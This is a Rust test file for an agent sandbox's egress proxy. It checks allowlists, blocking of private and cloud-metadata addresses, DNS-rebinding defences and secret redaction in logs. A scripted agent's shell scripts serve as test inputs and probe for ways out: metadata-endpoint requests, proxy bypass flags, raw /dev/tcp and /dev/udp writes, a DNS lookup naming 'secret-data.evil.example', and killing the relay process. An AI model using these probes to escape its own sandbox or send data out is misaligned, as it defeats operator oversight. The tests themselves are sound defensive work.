//! What a sandbox reaches under each network policy, asked by the tools of a real agent, and what is
//! kept of it.

use std::fs::Permissions;
use std::io::ErrorKind;
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, Instant};

use runbookd::egress::EgressSettings;
use runbookd::provider::scripted::{Listen, Script, ScriptedProvider};
use runbookd::run::{Credentials, Network, Networks};
use serde_json::Value;

use crate::support::{Names, Scene, Stage, Story, Web, gateway};

stories! {
    a_public_network_reaches_public_names_alone_and_keeps_every_attempt,
    an_allowlist_is_what_a_run_reaches,
    no_way_leads_around_the_proxy,
    the_setup_script_and_every_child_of_the_agent_find_the_proxy,
    the_relay_is_nobodys_to_stop,
    a_relay_that_never_listens_fails_the_run_in_time,
    behind_a_gateway_the_proxy_is_in_its_process,
    a_name_that_changes_its_mind_leads_to_no_private_address,
    an_agent_with_the_credential_asks_its_own_model_through_the_proxy,
}

/// A run whose agent carries out a shell script with the port of a web server in `$PORT`. Names that
/// end in `.test` lead to this machine.
fn asking(network: Network, port: u16, script: &str) -> Story {
    let script = format!("export PORT={port}\ncd /app/results\n{script}\n");
    let mut story = Story::scripted(
        "turns: [{ tools: [{ Bash: { command: bash /app/assets/ask.sh } }] }, { text: Done. }]",
    );
    story.overrides.network = Some(network);
    story.assets = vec![("ask.sh", String::leak(script))];
    story.egress = EgressSettings {
        networks: Networks::all(),
        private: vec![format!("127.0.0.1:{port}").parse().unwrap()],
        deny: vec!["denied.test".parse().unwrap()],
        resolver: "web.test=127.0.0.1,other.test=127.0.0.1,denied.test=127.0.0.1,\
                   inside.test=10.0.0.1"
            .parse()
            .unwrap(),
    };
    story
}

/// What a run kept of its attempts, the last line of each: method, host, outcome, rule.
fn attempts(scene: &Scene) -> Vec<String> {
    let mut last: std::collections::BTreeMap<u64, Value> = [].into();
    for line in scene.text("logs/egress.jsonl").lines().filter(|line| !line.is_empty()) {
        let line: Value = serde_json::from_str(line).unwrap();
        last.insert(line["seq"].as_u64().unwrap(), line);
    }
    let word = |line: &Value, key: &str| line[key].as_str().unwrap().to_owned();
    let line =
        |line: &Value| ["method", "host", "outcome", "rule"].map(|key| word(line, key)).join(" ");
    last.values().map(line).collect()
}

async fn a_public_network_reaches_public_names_alone_and_keeps_every_attempt(stage: &Stage) {
    let web = Web::start().await;
    let ask = r#"
curl -s http://web.test:$PORT/ >plain
curl -s -p http://web.test:$PORT/ >tunnel
curl -s -L http://web.test:$PORT/inside >redirected
curl -s http://169.254.169.254/latest/meta-data/ >metadata
curl -s http://2852039166/ >metadata-in-decimal
curl -s http://denied.test:$PORT/ >denied
curl -s http://web.test:$PORT/ -H 'Host: other.test' >other-host
curl -s https://api.anthropic.com/v1/files; echo $? >model
curl -s -m 9 -k --connect-to web.test:$PORT:other.test:$PORT https://web.test:$PORT/; echo $? >other-name
git ls-remote http://web.test:$PORT/a.git >git 2>&1
true
"#;
    let scene = asking(Network::Public, web.port, ask).run(stage).await;
    assert_eq!(scene.ending(), "completed");
    let result = |name: &str| scene.text(&format!("results/{name}"));
    assert_eq!([result("plain"), result("tunnel")], ["hello\n", "hello\n"]);
    for (name, rule) in [
        ("redirected", "private-address"),
        ("metadata", "private-address"),
        ("metadata-in-decimal", "private-address"),
        ("denied", "operator-deny"),
        ("other-host", "host-mismatch"),
    ] {
        let said: Value = serde_json::from_str(&result(name)).unwrap();
        assert_eq!(said["error"]["rule"], rule, "{name}: {said}");
        assert!(said["error"]["message"].as_str().unwrap().starts_with("blocked by policy"));
    }
    // curl's words for a proxy that refuses a CONNECT, and for TLS that does.
    assert_eq!([result("model"), result("other-name")], ["56\n", "35\n"]);
    assert_eq!(web.n_heard(), 4);
    assert_eq!(
        attempts(&scene),
        [
            "GET web.test passed public",
            "CONNECT web.test passed public",
            "GET web.test passed public",
            "GET web.test passed public",
            "GET inside.test denied private-address",
            "GET 169.254.169.254 denied private-address",
            "GET 169.254.169.254 denied private-address",
            "GET denied.test denied operator-deny",
            "GET web.test denied host-mismatch",
            "CONNECT api.anthropic.com denied model-service",
            "CONNECT other.test denied sni-mismatch",
            "GET web.test passed public",
        ]
    );
    let egress = &scene.trajectory["egress"];
    assert_eq!((&egress["allowed"], &egress["denied"]), (&5.into(), &7.into()), "{egress}");
    assert_eq!(egress["denied_hosts"][0]["host"], "169.254.169.254");
    let warned =
        scene.warnings().iter().any(|w| w.starts_with("The network policy denied 7 attempts"));
    assert!(warned, "{:?}", scene.warnings());
    assert_eq!(scene.trajectory["step_configs"]["run"]["network"], "public");
}

async fn an_allowlist_is_what_a_run_reaches(stage: &Stage) {
    let web = Web::start().await;
    let port = web.port;
    let allow = |hosts: &[&str]| {
        Network::Allowlist(hosts.iter().map(|h| format!("{h}:{port}").parse().unwrap()).collect())
    };
    let ask = "curl -s http://web.test:$PORT/ >listed; curl -s http://other.test:$PORT/ >other";
    let scene = asking(allow(&["web.test"]), port, ask).run(stage).await;
    assert_eq!(scene.ending(), "completed");
    assert_eq!(scene.text("results/listed"), "hello\n");
    let other: Value = serde_json::from_str(&scene.text("results/other")).unwrap();
    assert_eq!(other["error"]["rule"], "not-in-allowlist");
    assert!(other["error"]["message"].as_str().unwrap().contains("`network.allow`"), "{other}");
    assert_eq!(web.n_heard(), 1);
    let config = &scene.trajectory["step_configs"]["run"];
    assert_eq!(config["network_allow"][0], format!("web.test:{port}"));
    // What the run suggests lets it do the same.
    let suggested = std::process::Command::new(env!("CARGO_BIN_EXE_runbookd"))
        .args(["suggest-policy", scene.report.name.id.as_str(), "--results"])
        .arg(scene.folder().ancestors().nth(3).unwrap())
        .output()
        .unwrap();
    let suggested = String::from_utf8(suggested.stdout).unwrap();
    assert!(suggested.starts_with("network:\n  mode: allowlist\n  allow:\n"), "{suggested}");
    assert!(suggested.contains(&format!("    - \"web.test:{port}\"")), "{suggested}");
    assert!(suggested.contains(&format!("    # - \"other.test:{port}\"")), "{suggested}");
}

async fn no_way_leads_around_the_proxy(stage: &Stage) {
    let web = Web::start().await;
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let host = crate::support::host(stage.kind);
    let udp_port = udp.local_addr().unwrap().port();
    let ask = format!(
        r#"
export HOST={host} UDP={udp_port}
curl -s -m 5 --noproxy '*' http://$HOST:$PORT/ >no-proxy; echo $? >no-proxy.code
NO_PROXY='*' no_proxy='*' curl -s -m 5 http://$HOST:$PORT/ >no-proxy-variable
curl -s -m 5 --noproxy '*' --resolve web.test:$PORT:$HOST http://web.test:$PORT/ >resolved
curl -s -m 5 --resolve denied.test:$PORT:127.0.0.1 http://denied.test:$PORT/ >resolved-through
(echo GET / HTTP/1.0; echo) | timeout 5 bash -c 'cat >/dev/tcp/$HOST/$PORT' 2>/dev/null; echo $? >tcp
(echo knock >/dev/udp/$HOST/$UDP) 2>/dev/null
python3 - >names <<'END'
import socket, time
since = time.monotonic()
for name in ['example.org', 'secret-data.evil.example', 'metadata.google.internal']:
    try:
        print(name, socket.getaddrinfo(name, 80))
    except socket.gaierror:
        pass
print('at once' if time.monotonic() - since < 5 else 'slowly')
END
ip_routes=$(tail -n +2 /proc/net/route | wc -l); echo $ip_routes >routes
cat /etc/resolv.conf | grep -c nameserver >nameservers
"#
    );
    let scene = asking(Network::Public, web.port, &ask).run(stage).await;
    assert_eq!(scene.ending(), "completed");
    let result = |name: &str| scene.text(&format!("results/{name}"));
    for name in ["no-proxy", "no-proxy-variable", "resolved"] {
        assert_eq!(result(name), "", "{name}");
    }
    assert_ne!(result("no-proxy.code"), "0\n");
    // A name that curl resolves itself is asked for by name all the same.
    assert!(result("resolved-through").contains("operator-deny"), "{}", result("resolved-through"));
    assert_ne!(result("tcp"), "0\n");
    assert_eq!(result("names"), "at once\n");
    assert_eq!((result("routes").as_str(), result("nameservers").as_str()), ("0\n", "0\n"));
    assert_eq!(web.n_heard(), 0);
    assert!(udp.recv(&mut [0; 8]).is_err(), "nothing came");
}

async fn the_setup_script_and_every_child_of_the_agent_find_the_proxy(stage: &Stage) {
    let web = Web::start().await;
    let ask = "env -u PORT sh -c 'env | grep -i proxy | sort' >variables";
    let mut story = asking(Network::Public, web.port, ask);
    story.runbook = format!(
        "---\nsetup: |\n  curl -sf http://web.test:{}/ >/app/results/setup\n---\n# A story\n",
        web.port
    );
    let scene = story.run(stage).await;
    assert_eq!(scene.ending(), "completed");
    assert_eq!(scene.text("results/setup"), "hello\n");
    assert_eq!(
        scene.text("results/variables").lines().collect::<Vec<_>>(),
        [
            "HTTPS_PROXY=http://127.0.0.1:3128",
            "HTTP_PROXY=http://127.0.0.1:3128",
            "NODE_USE_ENV_PROXY=1",
            "NO_PROXY=localhost,127.0.0.1,::1",
            "http_proxy=http://127.0.0.1:3128",
            "https_proxy=http://127.0.0.1:3128",
            "no_proxy=localhost,127.0.0.1,::1",
        ]
    );
    // The model was asked at its socket and not through the proxy.
    assert_eq!(attempts(&scene), ["GET web.test passed public"]);
}

async fn the_relay_is_nobodys_to_stop(stage: &Stage) {
    let web = Web::start().await;
    let ask = r#"
for p in /proc/[0-9]*; do
  if tr '\0' ' ' <$p/cmdline 2>/dev/null | grep -q 'relay 127.0.0.1:3128'; then
    kill -9 ${p#/proc/} 2>/dev/null && echo stopped; ls $p/fd 2>/dev/null; cat $p/environ 2>/dev/null; echo found
  fi
done >relay
curl -s http://web.test:$PORT/ >after
"#;
    let scene = asking(Network::Public, web.port, ask).run(stage).await;
    assert_eq!((scene.ending(), scene.text("results/relay").as_str()), ("completed", "found\n"));
    assert_eq!(scene.text("results/after"), "hello\n");
}

/// A run with a proxy whose agent does nothing.
fn idle() -> Story {
    let mut story = Story::fake("exit 0");
    story.overrides.network = Some(Network::Public);
    story
}

async fn a_relay_that_never_listens_fails_the_run_in_time(stage: &Stage) {
    idle().run(stage).await;
    // From now on every relay of this stage is a program that says nothing. The files are other names
    // of this build's program, so they are removed and not written into.
    let [relay] = &relays(stage)[..] else { panic!("one build") };
    let relay = stage.state.path().join("relay").join(relay);
    let _ = std::fs::remove_file(relay.join("ld.so"));
    std::fs::remove_file(relay.join("runbookd")).unwrap();
    std::fs::write(relay.join("runbookd"), "#!/bin/sh\nexec sleep 600\n").unwrap();
    std::fs::set_permissions(relay.join("runbookd"), Permissions::from_mode(0o555)).unwrap();
    let since = Instant::now();
    let scene = idle().run(stage).await;
    assert_eq!(scene.trajectory["failure"]["code"], "sandbox_failed", "{}", scene.outline());
    let message = scene.trajectory["error"].as_str().unwrap();
    assert!(message.contains("nothing was started in it within 30 s"), "{message}");
    assert!(message.contains("its way out did not open"), "{message}");
    assert!(since.elapsed() < Duration::from_secs(60), "{:?}", since.elapsed());
}

/// The builds of the relay that a stage keeps.
fn relays(stage: &Stage) -> Vec<String> {
    let kept = std::fs::read_dir(stage.state.path().join("relay")).unwrap().flatten();
    kept.map(|entry| entry.file_name().into_string().unwrap()).collect()
}

/// A model service on this machine whose agent carries out the script of a story.
async fn model_service() -> (ScriptedProvider, u16) {
    let script =
        "turns: [{ tools: [{ Bash: { command: bash /app/assets/ask.sh } }] }, { text: Done. }]";
    let listen = Listen::Tcp("127.0.0.1:0".parse().unwrap());
    let server = ScriptedProvider::start(Script::parse(script).unwrap(), listen).await.unwrap();
    let port = match server.address() {
        Listen::Tcp(address) => address.port(),
        Listen::Unix(_) => panic!("a TCP address"),
    };
    (server, port)
}

async fn behind_a_gateway_the_proxy_is_in_its_process(stage: &Stage) {
    let web = Web::start().await;
    let (model, port) = model_service().await;
    let ask = "curl -s http://web.test:$PORT/$SHOP_TOKEN >listed; curl -s http://$SHOP_TOKEN.test/";
    let mut story = asking(Network::Public, web.port, ask);
    story.provider = Some("anthropic");
    story.runbook = "---\nsecrets: { SHOP_TOKEN: {} }\n---\n# A story\n".to_owned();
    story.keys = vec![
        ("ANTHROPIC_API_KEY", "sk-ant-made-up-key"),
        ("ANTHROPIC_BASE_URL", String::leak(format!("http://127.0.0.1:{port}"))),
        ("SHOP_TOKEN", "made-up-0123456789abcdef"),
    ];
    let scene = story.run(stage).await;
    assert_eq!((scene.ending(), scene.text("results/listed").as_str()), ("completed", "hello\n"));
    let kept = scene.text("logs/egress.jsonl");
    assert!(!kept.contains("made-up-0123456789abcdef"), "{kept}");
    let attempts = attempts(&scene);
    assert_eq!(attempts[0], "GET web.test passed public");
    assert!(attempts[1].contains("[redacted]"), "{attempts:?}");
    assert_eq!(scene.trajectory["usage"]["reconciliation"], "exact");
    assert!(!model.stop().await.is_empty());
}

/// An address that the operator has allowed, as a public one would be.
const OPEN: Ipv4Addr = Ipv4Addr::LOCALHOST;
/// A private one.
const INSIDE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// Where a name leads, each time that somebody asks.
const TURNS: [Ipv4Addr; 9] = [OPEN, INSIDE, OPEN, OPEN, INSIDE, OPEN, INSIDE, OPEN, INSIDE];

async fn a_name_that_changes_its_mind_leads_to_no_private_address(stage: &Stage) {
    let web = Web::start().await;
    // On the same port, so that nothing but the address stands between.
    let private = TcpListener::bind((INSIDE, web.port)).unwrap();
    private.set_nonblocking(true).unwrap();
    let names = Names::start(&TURNS).await;
    let (model, port) = model_service().await;
    let ask = r#"
for way in '' '' -p -p -p; do curl -s $way http://rebind.test:$PORT/ >>said; done
# Two requests on one connection to the proxy.
curl -s http://rebind.test:$PORT/a http://rebind.test:$PORT/b >both
true
"#;
    let mut story = asking(Network::Public, web.port, ask);
    story.gateway = Some(names.asked_by(&gateway().path, stage.state.path()));
    story.provider = Some("anthropic");
    story.keys = vec![
        ("ANTHROPIC_API_KEY", "sk-ant-made-up-key"),
        ("ANTHROPIC_BASE_URL", String::leak(format!("http://127.0.0.1:{port}"))),
    ];
    let scene = story.run(stage).await;
    assert_eq!(scene.ending(), "completed");
    assert_eq!(
        attempts(&scene),
        [
            "GET rebind.test passed public",
            "GET rebind.test denied private-address",
            "CONNECT rebind.test passed public",
            "GET rebind.test passed public",
            "CONNECT rebind.test denied private-address",
            // What comes behind a CONNECT is a request like any other.
            "CONNECT rebind.test passed public",
            "GET rebind.test denied private-address",
            "GET rebind.test passed public",
            "GET rebind.test denied private-address",
        ]
    );
    // Who asks twice for one connection would get the other answer the second time.
    assert_eq!(names.n_asked(), TURNS.len());
    assert_eq!(scene.text("results/said").matches("hello\n").count(), 2);
    let both = scene.text("results/both");
    assert!(both.starts_with("hello\n") && both.contains("private-address"), "{both}");
    assert_eq!(private.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "nobody came");
    assert_eq!(web.n_heard(), 3);
    assert!(!model.stop().await.is_empty());
}

async fn an_agent_with_the_credential_asks_its_own_model_through_the_proxy(stage: &Stage) {
    let (model, port) = model_service().await;
    let mut story = asking(Network::Public, port, "true");
    story.provider = Some("anthropic");
    story.overrides.credentials = Some(Credentials::Direct);
    story.keys = vec![
        ("ANTHROPIC_API_KEY", "sk-ant-made-up-key"),
        ("ANTHROPIC_BASE_URL", String::leak(format!("http://web.test:{port}"))),
    ];
    let scene = story.run(stage).await;
    assert_eq!(scene.ending(), "completed");
    let attempts = attempts(&scene);
    let own = |line: &String| line.contains(" web.test passed own-model-service");
    assert!(attempts.iter().any(own), "{attempts:?}");
    assert!(!model.stop().await.is_empty());
}
